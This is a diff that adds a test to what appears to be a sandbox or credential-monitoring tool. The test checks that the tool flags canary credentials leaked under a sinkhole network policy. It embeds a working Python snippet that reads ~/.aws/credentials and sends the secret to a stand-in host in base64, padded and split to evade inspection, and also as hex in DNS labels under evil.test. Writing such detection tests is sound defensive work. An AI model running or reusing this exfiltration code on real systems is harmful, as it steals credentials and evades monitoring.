@@ -275,3 +275,32 @@ def test_a_socket_of_the_callers_agent_is_known_by_the_environment(place: Lab, t
         ran = lab.run("--", *python(source))
     assert ran.out == b"2\n"
     assert ("agent", str(path), "denied") in uses(ran)
+
+
+SENDING = """
+import base64, os, socket, time
+decoy = open(os.path.expanduser('~/.aws/credentials')).read().split('= ')[2].strip().encode()
+with socket.create_connection(('203.0.113.9', 80), 5) as out:
+    out.sendall(b'x' * 20000 + base64.b64encode(b'1' + decoy)[:30])
+    time.sleep(0.05)
+    out.sendall(base64.b64encode(b'1' + decoy)[30:])
+try: socket.getaddrinfo(decoy.hex()[:56] + '.' + decoy.hex()[56:] + '.evil.test', 80)
+except OSError: pass
+"""
+
+
+def test_a_decoy_that_is_sent_is_known_beyond_what_is_kept_and_in_names(place: Lab, tmp_path: Path) -> None:
+    """Past the first 4 KiB, cut in two, in base64; and as hex in the labels of a name; scope: violated, twice."""
+    policy = tmp_path / "sink.toml"
+    policy.write_text(
+        'schema = 1\nname = "sink"\n[network]\ndefault = "sinkhole"\n[credentials]\ncanaries = true\n', encoding="utf-8"
+    )
+    ran = place.run("-p", str(policy), "--", *python(SENDING))
+    assert ran.code == 0, ran.err
+    name = max((place.home / "runs").iterdir()).name
+    leaked = {(use["name"], use["where"], use["run"]) for use in ran.report["effects"]["credentials"] if use["run"]}
+    sent = {where for form, where, run in leaked if (form, run) == ("aws", name)}
+    assert "sent to 203.0.113.9:80 (base64)" in sent
+    assert any(where.startswith("in the name ") and where.endswith("(hex)") for where in sent)
+    assert {violation["rule"] for violation in ran.report["scope"]["violations"]} >= {"leaked-canary"}
+    assert all(use["process"] for use in ran.report["effects"]["credentials"] if use["run"])
